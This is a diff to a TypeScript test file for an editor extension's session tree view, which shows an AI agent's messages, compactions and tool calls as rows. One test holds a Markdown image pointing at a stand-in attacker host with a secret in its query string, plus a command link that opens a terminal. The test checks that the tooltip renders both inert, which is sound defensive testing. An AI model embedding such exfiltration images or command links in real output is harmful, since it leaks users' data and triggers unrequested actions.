@@ -1,6 +1,7 @@
 import { strict as assert } from 'node:assert';
 import type { SessionEntry } from '../../../src/core/session';
-import { compactionStats, presentRow, rowKind, toolCallFor } from '../../../src/core/sessionTree';
+import { BRANCH_SUMMARY_PREAMBLE } from '../../../src/core/compaction';
+import { compactionLine, MAX_TOOLTIP_CHARS, presentRow, rowKind, summaryGoal, toolCallFor } from '../../../src/core/sessionTree';
 import { assistant, compactionEntry, entry, msg, toolCall, toolResult, user } from '../../support/builders';
 
 const row = (e: SessionEntry, extra: { label?: string; onActivePath?: boolean; isCurrent?: boolean } = {}) =>
@@ -9,7 +10,7 @@ const row = (e: SessionEntry, extra: { label?: string; onActivePath?: boolean; i
 /** A compaction as Arbor writes it: pi's fields plus the `arbor` record. */
 function arborCompaction(): SessionEntry {
   return entry('compaction', 'c1', 'a1', {
-    summary: '## Goal\nShip the tree view',
+    summary: '## Goal\nShip the tree view\n\n<read-files>\nsrc/b.ts\n</read-files>\n\n<modified-files>\nsrc/a.ts\ndocs/my_notes.md\n</modified-files>',
     firstKeptEntryId: 'u2',
     tokensBefore: 182_400,
     fromHook: false,
@@ -18,51 +19,85 @@ function arborCompaction(): SessionEntry {
 }
 
 describe('Session Tree rows', () => {
-  it('shows a user message with its first line, the current mark, the label and every context word', () => {
+  it('shows a user message as its first line, the position mark first, the label as the description, and spells the kind out for screen readers', () => {
     assert.deepEqual(row(msg('u1', null, user('Fix the parser\nit breaks on tabs')), { label: 'start', onActivePath: true, isCurrent: true }), {
-      label: 'user: Fix the parser',
-      description: '● current · start',
+      label: '● Fix the parser',
+      description: 'start',
       icon: 'account',
       contextValue: 'entry user onPath current labeled',
-      tooltip: '[start]\n\nFix the parser\nit breaks on tabs',
+      tooltip: '\\[start\\]\n\nFix the parser\nit breaks on tabs',
+      accessibilityLabel: 'user: Fix the parser, ● current · start',
     });
   });
 
   it('says in the tooltip when the label was set, in local time, and nothing for a time it cannot read', () => {
     const labeled = (labeledAt: string) => presentRow({ entry: msg('u1', null, user('Fix the parser')), label: 'start', onActivePath: false, isCurrent: false, labeledAt });
-    assert.equal(labeled(new Date(2026, 10, 30, 14, 7, 9).toISOString()).tooltip, '[start] · labeled 2026-11-30 14:07\n\nFix the parser');
-    assert.equal(labeled('not a time').tooltip, '[start]\n\nFix the parser');
+    assert.equal(labeled(new Date(2026, 10, 30, 14, 7, 9).toISOString()).tooltip, '\\[start\\] · labeled 2026\\-11\\-30 14:07\n\nFix the parser');
+    assert.equal(labeled('not a time').tooltip, '\\[start\\]\n\nFix the parser');
   });
 
-  it('shows an assistant reply off the current path with only its kind word', () => {
+  it('shows an assistant reply off the current path with its text alone', () => {
     assert.deepEqual(row(msg('a1', 'u1', assistant('Done.'))), {
-      label: 'assistant: Done.',
+      label: 'Done.',
       description: undefined,
       icon: 'sparkle',
       contextValue: 'entry assistant',
       tooltip: 'Done.',
+      accessibilityLabel: 'assistant: Done.',
     });
   });
 
-  it('shows a compaction with what it summarized and the tokens before and after, as the chat card counts them', () => {
-    const shown = row(arborCompaction(), { onActivePath: true });
-    assert.equal(shown.label, 'compaction: ## Goal');
-    assert.equal(shown.description, 'summarized 12 entries · 182k → 21k tokens');
+  it('reads a message\'s Markdown as its words: emphasis, headings, list markers, task boxes, links, code and HTML go', () => {
+    const label = (text: string) => row(msg('a1', 'u1', assistant(text))).label;
+    assert.equal(label('Here is a small **TypeScript** function'), 'Here is a small TypeScript function');
+    assert.equal(label('# A longer answer\n\n## Part 1'), 'A longer answer');
+    assert.equal(label('- [x] Wrote `slugify(title)` with a [test](https://example.com/t)'), 'Wrote slugify(title) with a test');
+    assert.equal(label('<details><summary>Why</summary>&amp; more'), 'Why& more');
+    assert.equal(label('```ts\nexport function slugify() {}\n```'), 'export function slugify() {}');
+    // A prompt's own angle brackets and stars are words, not markup.
+    assert.equal(row(msg('u1', null, user('Explain "spacing" & <angle> brackets, 2 * 3 * 4'))).label, 'Explain "spacing" & <angle> brackets, 2 * 3 * 4');
+  });
+
+  it('renders the tooltip as Markdown with images and non-web links made inert', () => {
+    const shown = row(msg('a1', 'u1', assistant('**Done** ![pixel](https://evil.example/p.png?q=secret) [run](command:workbench.action.terminal.new) [docs](https://example.com)\n\n```\n![kept](x.png)\n```')));
+    assert.equal(shown.tooltip, '**Done** pixel run [docs](https://example.com)\n\n```\n![kept](x.png)\n```');
+  });
+
+  it('shows a compaction as its numbers, and its summary with the file lists as lists in the tooltip', () => {
+    const shown = row(arborCompaction(), { onActivePath: true, isCurrent: true });
+    assert.equal(shown.label, '● compaction · 182k → 21k · 12 entries');
+    assert.equal(shown.description, undefined);
     assert.equal(shown.icon, 'fold');
-    assert.equal(shown.contextValue, 'entry compaction onPath');
-    assert.equal(shown.tooltip, '## Goal\nShip the tree view\n\nsummarized 12 entries · 182k → 21k tokens');
+    assert.equal(shown.contextValue, 'entry compaction onPath current');
+    assert.equal(shown.accessibilityLabel, 'compaction · 182k → 21k · 12 entries, ● current');
+    assert.equal(
+      shown.tooltip,
+      '## Goal\nShip the tree view\n\nRead:\n\n- `src/b.ts`\n\nModified:\n\n- `src/a.ts`\n- `docs/my_notes.md`\n\nSummarized 12 entries: 182,400 → 21,049 tokens',
+    );
   });
 
   it('shows a compaction pi wrote (no Arbor record) with the tokens before only', () => {
-    assert.equal(compactionStats(compactionEntry('c', null, 'x')), '1k tokens before');
-    assert.equal(row(compactionEntry('c', null, 'x', 'Earlier work')).label, 'compaction: Earlier work');
+    const shown = row(compactionEntry('c', null, 'x', 'Earlier work'));
+    assert.equal(shown.label, 'compaction · 1k before');
+    assert.equal(shown.tooltip, 'Earlier work\n\n1,000 tokens before');
+    assert.equal(compactionLine({ tokensBefore: 5300, tokensAfter: 1500, summarizedEntries: 9 }), 'compaction · 5.3k → 1.5k · 9 entries');
+    assert.equal(compactionLine({ tokensBefore: 182_000, tokensAfter: undefined, summarizedEntries: undefined }), 'compaction · 182k before');
   });
 
-  it('gives branch summaries their own label and icon', () => {
-    const shown = row(entry('branch_summary', 'b1', 'u1', { fromId: 'x', summary: 'Tried a lexer rewrite\nthen gave up', fromHook: false }));
-    assert.equal(shown.label, 'branch summary: Tried a lexer rewrite');
+  it('names a branch summary by its goal, not by pi\'s stock preamble', () => {
+    const summary = `${BRANCH_SUMMARY_PREAMBLE}## Goal\nTry a **lexer** rewrite\n\n## Progress\n- gave up\n\n<modified-files>\nsrc/lexer.ts\n</modified-files>`;
+    const shown = row(entry('branch_summary', 'b1', 'u1', { fromId: 'x', summary, fromHook: false }));
+    assert.equal(shown.label, 'branch summary: Try a lexer rewrite');
     assert.equal(shown.icon, 'git-merge');
     assert.equal(shown.contextValue, 'entry branchSummary');
+    assert.match(shown.tooltip, /\n\nModified:\n\n- `src\/lexer\.ts`$/);
+  });
+
+  it('names a branch summary without a goal heading by its first line after the preamble', () => {
+    assert.equal(summaryGoal(`${BRANCH_SUMMARY_PREAMBLE}Tried a lexer rewrite\nthen gave up`), 'Tried a lexer rewrite');
+    assert.equal(summaryGoal('Tried a lexer rewrite\nthen gave up'), 'Tried a lexer rewrite');
+    assert.equal(summaryGoal('## Goal\n\n## Progress\nnothing'), 'Goal');
+    assert.equal(summaryGoal(''), '');
   });
 
   it('names every kind of entry with one word', () => {
@@ -99,9 +134,11 @@ describe('Session Tree rows', () => {
     assert.equal(toolCallFor(entries[3]!, get), grep);
     assert.equal(toolCallFor(entries[1]!, get), undefined);
     const shown = presentRow({ entry: entries[3]!, label: undefined, onActivePath: true, isCurrent: false, call: grep });
-    assert.equal(shown.label, 'tool grep: TODO in src');
-    assert.equal(shown.tooltip, 'src/a.ts:3: TODO fix\n\nerror');
-    assert.equal(row(entries[2]!).label, 'tool read: export function parse() {}');
+    assert.equal(shown.label, 'grep: TODO in src');
+    assert.equal(shown.accessibilityLabel, 'tool grep: TODO in src');
+    // The output shows as code, as written: no Markdown of its own.
+    assert.equal(shown.tooltip, '```\nsrc/a.ts:3: TODO fix\n```\n\nerror');
+    assert.equal(row(entries[2]!).label, 'read: export function parse() {}');
   });
 
   it('finds no call for a result whose call is missing (a hand-edited file)', () => {
@@ -112,6 +149,32 @@ describe('Session Tree rows', () => {
 
   it('shows a settings entry by its tag and text', () => {
     assert.equal(row(entry('model_change', 'm', null, { provider: 'anthropic', modelId: 'claude-x' })).label, 'model: anthropic/claude-x');
-    assert.equal(row(entry('label', 'l', null, { targetId: 'u1', label: 'start' })).label, 'label: start → u1');
+    assert.equal(row(entry('label', 'l', null, { targetId: 'u1', label: '**start**' })).label, 'label: **start** → u1');
+    assert.equal(row(entry('label', 'l', null, { targetId: 'u1', label: '**start**' })).tooltip, '\\*\\*start\\*\\* → u1');
+  });
+
+  it('keeps every part of a row bounded for a file\'s megabyte-long message, tool name, label or error', () => {
+    const huge = 'x'.repeat(1_000_000);
+    const call = toolCall(huge, { path: huge }, 'tc1');
+    const rows = [
+      presentRow({ entry: msg('a1', null, assistant(`${'*'.repeat(500_000)}\n${'`'.repeat(150_000)}`, { stopReason: 'error', errorMessage: huge })), label: huge, onActivePath: true, isCurrent: true, labeledAt: '2026-01-01T00:00:00.000Z' }),
+      presentRow({ entry: msg('r1', 'a1', toolResult(call, `${'`'.repeat(200_000)} ${'<'.repeat(100_000)}`)), label: undefined, onActivePath: false, isCurrent: false, call }),
+      presentRow({ entry: msg('u1', null, user('!'.repeat(1_000_000))), label: undefined, onActivePath: false, isCurrent: false }),
+      presentRow({ entry: entry('label', 'l', null, { targetId: 'u1', label: '&'.repeat(1_000_000) }), label: undefined, onActivePath: false, isCurrent: false }),
+      presentRow({ entry: entry('branch_summary', 'b', null, { fromId: 'x', summary: `${huge}\n\n<modified-files>\n${`${huge}\n`.repeat(40)}</modified-files>` }), label: undefined, onActivePath: false, isCurrent: false }),
+    ];
+    for (const shown of rows) {
+      assert.ok(shown.tooltip.length <= MAX_TOOLTIP_CHARS, `tooltip of ${shown.tooltip.length} characters`);
+      assert.ok(shown.label.length <= 130 && shown.accessibilityLabel.length <= 250 && (shown.description ?? '').length <= 80, shown.label);
+    }
+    // The file list of a summary still shows after its text was cut: 19 paths, then how many more.
+    assert.match(rows[4]!.tooltip, /\n\nModified:\n\n(- `x{119}…`\n){19}- … and 21 more$/);
+  });
+
+  it('finds no kind, icon or tool summary in an object\'s own properties (a tool or role named "constructor")', () => {
+    const call = toolCall('constructor', { path: 'a.ts' }, 'tc1');
+    const result = msg('r1', 'a1', toolResult(call, 'out'));
+    assert.equal(presentRow({ entry: result, label: undefined, onActivePath: false, isCurrent: false, call }).label, 'constructor: a.ts');
+    assert.equal(rowKind(msg('x', null, { role: 'constructor', content: [], timestamp: 1 } as never)), 'message');
   });
 });
